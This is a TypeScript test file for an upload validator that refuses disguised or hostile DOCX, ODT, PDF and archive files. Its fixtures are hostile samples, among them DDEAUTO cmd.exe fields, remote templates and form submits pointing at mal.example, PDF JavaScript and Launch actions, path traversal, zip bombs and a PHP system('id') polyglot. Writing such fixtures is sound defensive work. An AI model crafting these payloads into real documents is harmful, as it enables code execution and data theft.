import { deflateSync } from "node:zlib";
import { describe, expect, it } from "vitest";
import {
  contentTypesXml,
  documentXml,
  docx,
  mainType,
  objectStream,
  odt,
  odtContent,
  pdf,
  relationsXml,
  stream,
} from "../../test/paper-files.ts";
import { zip } from "../../test/zip-files.ts";
import { judgePaper } from "./judge-paper.ts";
import type { Refusal } from "./refusal.ts";

type Code = Refusal["code"];
type Hostile = readonly [what: string, bytes: Uint8Array, code: Code, reason: RegExp];

const text = (content: string) => Buffer.from(content, "latin1");
const part = (name: string, content = "x") => docx({ [name]: content });
const ooxmlType = (type: string) => `application/vnd.${type}`;
const tied = (type: string, target: string) =>
  docx({ "word/_rels/settings.xml.rels": relationsXml({ type, target, external: true }) });
const field = (body: string) => docx({ "word/document.xml": documentXml(body) });
const instruction = (...pieces: string[]) =>
  field(
    pieces.map((piece) => `<w:r><w:instrText xml:space="preserve">${piece}</w:instrText></w:r>`).join(""),
  );
const odtBody = (body: string) => odt({ "content.xml": odtContent(body) });
const zeros = (megabytes: number) => Buffer.alloc(megabytes * 1024 * 1024);
const script = "<< /S /JavaScript /JS (app.alert\\(1\\)) >>";

const notPapers: readonly Hostile[] = [
  ["nothing at all", new Uint8Array(), "EMPTY_FILE", /vide/],
  ["one byte", text("%"), "UNSUPPORTED_FILE", /PDF/],
  ["zeros", zeros(1), "UNSUPPORTED_FILE", /PDF/],
  ["a web page", text("<!DOCTYPE html><script>alert(1)</script>"), "UNSUPPORTED_FILE", /PDF/],
  ["a drawing with a script", text("<svg onload='alert(1)'/>"), "UNSUPPORTED_FILE", /PDF/],
  ["a program of Windows", text("MZ\u0090\u0000"), "UNSUPPORTED_FILE", /programme/],
  ["a program of Linux", text("\u007fELF"), "UNSUPPORTED_FILE", /programme/],
  ["a script", text("#!/bin/sh\nrm -rf /"), "UNSUPPORTED_FILE", /PDF/],
  ["a photo", text("\u00ff\u00d8\u00ff\u00e0"), "UNSUPPORTED_FILE", /photo/],
  ["a picture", text("\u0089PNG\r\n"), "UNSUPPORTED_FILE", /image/],
  ["an old Word document", text("\u00d0\u00cf\u0011\u00e0\u00a1\u00b1"), "UNSUPPORTED_FILE", /\.doc/],
  ["a rich text", text("{\\rtf1\\ansi}"), "UNSUPPORTED_FILE", /RTF/],
  ["a plain archive", zip([{ name: "statuts.txt", content: "x" }]), "UNSUPPORTED_FILE", /archive/],
  ["an empty archive", text(`PK\u0005\u0006${"\u0000".repeat(18)}`), "UNSUPPORTED_FILE", /PDF/],
  ["a PDF's first line after something else", text("x%PDF-1.7\n%%EOF"), "UNSUPPORTED_FILE", /PDF/],
];

const archives: readonly Hostile[] = [
  ["cut short", docx().subarray(0, -30), "UNSUPPORTED_FILE", /abîmé/],
  ["with something before it", docx({}, { before: text("PK\u0003\u0004") }), "DANGEROUS_FILE", /autre chose/],
  ["with something after it", docx({}, { after: text("<script>") }), "DANGEROUS_FILE", /autre chose/],
  ["with a comment", docx({}, { comment: text("%PDF-1.7") }), "DANGEROUS_FILE", /autre chose/],
  [
    "with something before its directory",
    docx({}, { beforeDirectory: text("<script>alert(1)</script>") }),
    "DANGEROUS_FILE",
    /autre chose/,
  ],
  ["with a wrong count", docx({}, { count: 3 }), "DANGEROUS_FILE", /autre chose/],
  ["announcing more than it has", docx({}, { count: 9 }), "UNSUPPORTED_FILE", /abîmé/],
  ["of the big kind", docx({}, { count: 0xffff }), "UNSUPPORTED_FILE", /trop grande/],
  [
    "of a thousand files and more",
    docx(
      {},
      {},
      Array.from({ length: 1000 }, (_, index) => ({ name: `word/${index}.xml`, content: "<a/>" })),
    ),
    "UNSUPPORTED_FILE",
    /abîmé/,
  ],
  ["encrypted", docx({}, {}, [{ name: "x.xml", flags: 1 }]), "UNSUPPORTED_FILE", /mot de passe/],
  [
    "compressed in an unknown way",
    docx({}, {}, [{ name: "x.xml", method: 99 }]),
    "UNSUPPORTED_FILE",
    /abîmé/,
  ],
  [
    "whose headers name two files",
    docx({}, {}, [{ name: "word/a.xml", localName: "word/b.xml", content: "<a/>" }]),
    "DANGEROUS_FILE",
    /autre chose/,
  ],
  [
    "whose headers tell two sizes",
    docx({}, {}, [{ name: "word/a.xml", localSize: 9, content: "<a/>" }]),
    "DANGEROUS_FILE",
    /autre chose/,
  ],
  [
    "whose files overlap",
    docx({}, {}, [
      {
        name: "[Content_Types].xml",
        localName: "[Content_Types].xml",
        offset: 0,
        content: contentTypesXml(),
      },
    ]),
    "DANGEROUS_FILE",
    /autre chose/,
  ],
  [
    "of 200 MB once inflated",
    docx({}, {}, [{ name: "a.png", content: zeros(101) }]),
    "DANGEROUS_FILE",
    /démesuré/,
  ],
  ["shrunk a thousandfold", docx({ "word/a.xml": zeros(3) }), "DANGEROUS_FILE", /démesuré/],
  [
    "that grows more than it says",
    docx({ "word/document.xml": null }, {}, [{ name: "word/document.xml", content: zeros(4), size: 4000 }]),
    "DANGEROUS_FILE",
    /démesuré/,
  ],
  [
    "that grows less than it says",
    docx({ "word/document.xml": null }, {}, [{ name: "word/document.xml", content: "<a/>", size: 4000 }]),
    "DANGEROUS_FILE",
    /démesuré/,
  ],
  ["that climbs to another folder", part("../../etc/passwd"), "DANGEROUS_FILE", /noms/],
  ["that climbs inside", part("word/../../x.xml"), "DANGEROUS_FILE", /noms/],
  ["with an absolute name", part("/etc/passwd"), "DANGEROUS_FILE", /noms/],
  ["with a name of Windows", part("..\\..\\x.xml"), "DANGEROUS_FILE", /noms/],
  ["with a drive", part("C:/x.xml"), "DANGEROUS_FILE", /noms/],
  ["with a zero in a name", part("word/a\u0000.xml"), "DANGEROUS_FILE", /noms/],
  ["with an endless name", part(`word/${"a".repeat(300)}.xml`), "DANGEROUS_FILE", /noms/],
  [
    "with a link",
    docx({}, {}, [{ name: "word/a.xml", content: "/etc/passwd", mode: 0o120777 }]),
    "DANGEROUS_FILE",
    /lien/,
  ],
  ["with a name twice", part("WORD/document.xml", "<a/>"), "DANGEROUS_FILE", /deux fois/],
  ["with a program", part("word/media/setup.exe"), "DANGEROUS_FILE", /programme/],
  ["with a web page", part("word/media/a.html"), "DANGEROUS_FILE", /programme/],
  ["with another archive", part("word/media/a.zip"), "DANGEROUS_FILE", /incorporé/],
];

const wordDocuments: readonly Hostile[] = [
  ["with macros", part("word/vbaProject.bin"), "DANGEROUS_FILE", /macros/],
  ["with macros under another case", part("word/VBAPROJECT.BIN"), "DANGEROUS_FILE", /macros/],
  [
    "that is a DOCM renamed",
    docx({ "[Content_Types].xml": contentTypesXml(ooxmlType("ms-word.document.macroEnabled.main+xml")) }),
    "DANGEROUS_FILE",
    /macros/,
  ],
  [
    "that hides its macros behind another name",
    docx({
      "word/theme.bin": "x",
      "[Content_Types].xml": contentTypesXml(
        mainType,
        `<Default Extension="bin" ContentType="${ooxmlType("ms-office.vbaProject")}"/>`,
      ),
    }),
    "DANGEROUS_FILE",
    /macros/,
  ],
  [
    "that spells its macros otherwise",
    docx({
      "[Content_Types].xml": contentTypesXml(
        mainType,
        `<Default Extension="bin" ContentType="application/vnd.ms-office.vba&#80;roject"/>`,
      ),
    }),
    "DANGEROUS_FILE",
    /macros/,
  ],
  [
    "that is tied to macros",
    docx({ "word/_rels/document.xml.rels": relationsXml({ type: "wordVbaData", target: "a.bin" }) }),
    "DANGEROUS_FILE",
    /macros/,
  ],
  [
    "that is a workbook",
    docx({
      "[Content_Types].xml": contentTypesXml(
        ooxmlType("openxmlformats-officedocument.spreadsheetml.sheet.main+xml"),
      ),
    }),
    "UNSUPPORTED_FILE",
    /Word/,
  ],
  ["without its text", docx({ "word/document.xml": null }), "UNSUPPORTED_FILE", /incomplet/],
  ["without its relations", docx({ "_rels/.rels": null }), "UNSUPPORTED_FILE", /incomplet/],
  ["with an embedded object", part("word/embeddings/oleObject1.bin"), "DANGEROUS_FILE", /objet/],
  ["with a control", part("word/activeX/activeX1.bin"), "DANGEROUS_FILE", /objet/],
  [
    "tied to an object",
    docx({ "word/_rels/document.xml.rels": relationsXml({ type: "oleObject", target: "media/a.bin" }) }),
    "DANGEROUS_FILE",
    /objet/,
  ],
  [
    "that imports a page",
    docx({ "word/_rels/document.xml.rels": relationsXml({ type: "aFChunk", target: "media/a.xml" }) }),
    "DANGEROUS_FILE",
    /objet/,
  ],
  [
    "whose template is far",
    tied("attachedTemplate", "https://mal.example/a.dotm"),
    "DANGEROUS_FILE",
    /ailleurs/,
  ],
  [
    "whose template is on a share",
    tied("attachedTemplate", "file:\\\\mal.example\\a.dotm"),
    "DANGEROUS_FILE",
    /ailleurs/,
  ],
  [
    "whose template is spelled otherwise",
    tied("attachedTemplate", "&#104;ttps://mal.example/a"),
    "DANGEROUS_FILE",
    /ailleurs/,
  ],
  ["whose picture is far", tied("image", "\\\\mal.example\\a.png"), "DANGEROUS_FILE", /ailleurs/],
  [
    "whose relations are not well formed",
    docx({ "word/_rels/a.xml.rels": "<Relationship <Relationship a" }),
    "UNSUPPORTED_FILE",
    /abîmé/,
  ],
  [
    "that starts a program",
    instruction('DDEAUTO c:\\\\windows\\\\cmd.exe "/k calc"'),
    "DANGEROUS_FILE",
    /DDE/,
  ],
  [
    "that starts a program piece by piece",
    instruction("DD", "EAU", "TO c:\\\\cmd.exe"),
    "DANGEROUS_FILE",
    /DDE/,
  ],
  ["that starts a program in one word", field('<w:fldSimple w:instr="DDE cmd"/>'), "DANGEROUS_FILE", /DDE/],
  [
    "that includes a far text",
    instruction('INCLUDETEXT "https://mal.example/a"'),
    "DANGEROUS_FILE",
    /ailleurs/,
  ],
  [
    "whose entities grow",
    docx({ "word/document.xml": '<!DOCTYPE a [<!ENTITY b "bb"><!ENTITY c "&b;&b;">]><a>&c;</a>' }),
    "DANGEROUS_FILE",
    /définitions/,
  ],
  [
    "whose entities grow, in UTF-16",
    docx({ "word/document.xml": Buffer.from('\ufeff<!DOCTYPE a [<!ENTITY b "bb">]><a/>', "utf16le") }),
    "DANGEROUS_FILE",
    /définitions/,
  ],
  [
    "in an unknown encoding",
    docx({ "word/document.xml": '<?xml version="1.0" encoding="UTF-7"?><a/>' }),
    "UNSUPPORTED_FILE",
    /abîmé/,
  ],
  ["whose text is no XML", docx({ "word/document.xml": "MZ" }), "UNSUPPORTED_FILE", /abîmé/],
  [
    "that is a PDF as well",
    docx({}, {}, []).length > 0 ? zip([{ name: "%PDF-1.7", stored: true, content: pdf() }]) : text(""),
    "DANGEROUS_FILE",
    /PDF/,
  ],
];

const odtMimetype = (content: string) => ({ name: "mimetype", content, stored: true });
const openDocuments: readonly Hostile[] = [
  ["with macros", odt({ "Basic/Standard/Module1.xml": "<a/>" }), "DANGEROUS_FILE", /macros/],
  ["with a script of Python's", odt({ "Scripts/python/a.txt": "x" }), "DANGEROUS_FILE", /macros/],
  [
    "with a script in its text",
    odt({
      "content.xml": odtContent(
        "<a/>",
        '<office:scripts><office:script script:language="x"/></office:scripts>',
      ),
    }),
    "DANGEROUS_FILE",
    /scripts/,
  ],
  [
    "with a script in a field",
    odtBody('<text:script script:language="JavaScript">alert(1)</text:script>'),
    "DANGEROUS_FILE",
    /scripts/,
  ],
  [
    "that listens to events, under another prefix",
    odtBody('<x:event-listener x:event-name="dom:load" xlink:href="a"/>'),
    "DANGEROUS_FILE",
    /scripts/,
  ],
  [
    "with a link to a script",
    odtBody('<text:a xlink:href="vnd.sun.star.script:a">x</text:a>'),
    "DANGEROUS_FILE",
    /scripts/,
  ],
  [
    "with a link to a script, spelled otherwise",
    odtBody('<text:a xlink:href="&#x6a;avascript:a">x</text:a>'),
    "DANGEROUS_FILE",
    /scripts/,
  ],
  ["with an applet", odtBody("<draw:applet/>"), "DANGEROUS_FILE", /objet/],
  ["with an object", odtBody('<draw:object-ole xlink:href="./a"/>'), "DANGEROUS_FILE", /objet/],
  [
    "with a far picture",
    odtBody('<draw:image xlink:href="http://mal.example/a.png"/>'),
    "DANGEROUS_FILE",
    /ailleurs/,
  ],
  [
    "with a far section",
    odtBody('<text:section-source xlink:href="//mal.example/a.odt"/>'),
    "DANGEROUS_FILE",
    /ailleurs/,
  ],
  [
    "that is encrypted",
    odt({
      "META-INF/manifest.xml": "<manifest:file-entry><manifest:encryption-data/></manifest:file-entry>",
    }),
    "UNSUPPORTED_FILE",
    /mot de passe/,
  ],
  [
    "that is a workbook",
    odt({}, odtMimetype("application/vnd.oasis.opendocument.spreadsheet")),
    "UNSUPPORTED_FILE",
    /OpenDocument/,
  ],
  [
    "that says its kind in passing",
    odt({}, odtMimetype("application/vnd.oasis.opendocument.text; x")),
    "UNSUPPORTED_FILE",
    /OpenDocument/,
  ],
  ["without its text", odt({ "content.xml": null }), "UNSUPPORTED_FILE", /incomplet/],
  ["without its manifest", odt({ "META-INF/manifest.xml": null }), "UNSUPPORTED_FILE", /incomplet/],
];

const pdfs: readonly Hostile[] = [
  ["cut short", pdf().subarray(0, 200), "UNSUPPORTED_FILE", /incomplet/],
  ["that is its two ends only", text("%PDF-1.7\n%%EOF"), "UNSUPPORTED_FILE", /abîmé/],
  ["of no version", text("%PDF-x\n%%EOF"), "UNSUPPORTED_FILE", /PDF/],
  ["with code", pdf({ catalogue: `/OpenAction ${script}` }), "DANGEROUS_FILE", /JavaScript/],
  [
    "with code, in hexadecimal",
    pdf({ catalogue: "/OpenAction << /S /J#61vaScr#69pt /JS (a) >>" }),
    "DANGEROUS_FILE",
    /JavaScript/,
  ],
  [
    "with code in its names",
    pdf({ catalogue: "/Names << /JavaScript 4 0 R >>" }),
    "DANGEROUS_FILE",
    /JavaScript/,
  ],
  [
    "with code among compressed objects",
    pdf({ objects: [objectStream(script)] }),
    "DANGEROUS_FILE",
    /JavaScript/,
  ],
  [
    "with code among compressed objects that are not said so",
    pdf({ objects: [objectStream(script, "/Filter /FlateDecode")] }),
    "DANGEROUS_FILE",
    /JavaScript/,
  ],
  [
    "with compressed objects behind a comment",
    pdf({ objects: [objectStream(script, "/Type /ObjStm % stream\n /N 1 /First 4 /Filter /FlateDecode")] }),
    "DANGEROUS_FILE",
    /JavaScript/,
  ],
  [
    "with compressed objects in an unusual coat",
    pdf({
      objects: [stream(text("395230"), "/Type /ObjStm /N 1 /First 4 /Filter [/ASCIIHexDecode /FlateDecode]")],
    }),
    "DANGEROUS_FILE",
    /vérifiée/,
  ],
  [
    "with compressed objects that were shifted",
    pdf({
      objects: [
        objectStream(
          script,
          "/Type /ObjStm /N 1 /First 4 /Filter /FlateDecode /DecodeParms << /Predictor 12 >>",
        ),
      ],
    }),
    "DANGEROUS_FILE",
    /vérifiée/,
  ],
  [
    "with compressed objects that do not inflate",
    pdf({
      objects: [
        stream(
          deflateSync("9 0 ".repeat(500)).fill(0xff, 12),
          "/Type /ObjStm /N 1 /First 4 /Filter /FlateDecode",
        ),
      ],
    }),
    "UNSUPPORTED_FILE",
    /abîmé/,
  ],
  [
    "that inflates to 80 MB",
    pdf({ objects: [stream(deflateSync(Buffer.alloc(80 * 1024 * 1024, "1 ")), "/Filter /FlateDecode")] }),
    "DANGEROUS_FILE",
    /démesuré/,
  ],
  [
    "that starts a program",
    pdf({ catalogue: "/OpenAction << /S /Launch /F (cmd.exe) >>" }),
    "DANGEROUS_FILE",
    /programme/,
  ],
  [
    "with a file attached",
    pdf({ catalogue: "/Names << /EmbeddedFiles 4 0 R >>" }),
    "DANGEROUS_FILE",
    /fichier joint/,
  ],
  [
    "with a file attached to a note",
    pdf({ objects: ["<< /Type /Filespec /EF << /F 5 0 R >> >>"] }),
    "DANGEROUS_FILE",
    /fichier joint/,
  ],
  [
    "with a form that sends",
    pdf({ objects: ["<< /S /SubmitForm /F (https://mal.example) >>"] }),
    "DANGEROUS_FILE",
    /formulaire/,
  ],
  [
    "with a form of another kind",
    pdf({ catalogue: "/AcroForm << /XFA 4 0 R >>" }),
    "DANGEROUS_FILE",
    /formulaire/,
  ],
  ["with a film", pdf({ objects: ["<< /Subtype /RichMedia >>"] }), "DANGEROUS_FILE", /multimédia/],
  ["that is encrypted", pdf({ trailer: "/Encrypt 4 0 R" }), "UNSUPPORTED_FILE", /protégé/],
  ["followed by an archive", Buffer.concat([pdf(), docx()]), "DANGEROUS_FILE", /suivi/],
  ["followed by a web page", pdf({ after: "<script>alert(1)</script>" }), "DANGEROUS_FILE", /suivi/],
  ["around an archive", Buffer.concat([pdf({ objects: [stream(docx(), "")] })]), "DANGEROUS_FILE", /archive/],
  [
    "around a web page",
    pdf({ header: "%PDF-1.7\n%<html><script>alert(1)</script>\n" }),
    "DANGEROUS_FILE",
    /page web/,
  ],
  [
    "around a program of PHP's",
    pdf({ header: "%PDF-1.7\n%<?php system('id'); ?>\n" }),
    "DANGEROUS_FILE",
    /page web/,
  ],
  [
    "of sixty thousand streams",
    pdf({ objects: Array.from({ length: 51_000 }, () => "<<>>\nstream\nendstream") }),
    "DANGEROUS_FILE",
    /vérifiée/,
  ],
];

function refusalOf(bytes: Uint8Array): Refusal | null {
  const verdict = judgePaper({ bytes });
  return "refusal" in verdict ? verdict.refusal : null;
}

describe.each([
  ["What is no paper", notPapers],
  ["An archive", archives],
  ["A Word document", wordDocuments],
  ["An OpenDocument text", openDocuments],
  ["A PDF", pdfs],
])("%s", (_, files) => {
  it.each(files)("%s is refused, and it is said why", (_what, bytes, code, reason) => {
    const refusal = refusalOf(bytes);
    expect(refusal?.code).toBe(code);
    expect(refusal?.reason).toMatch(reason);
  });
});

it("counts sixty hostile files and more", () => {
  expect([notPapers, archives, wordDocuments, openDocuments, pdfs].flat().length).toBeGreaterThan(100);
});
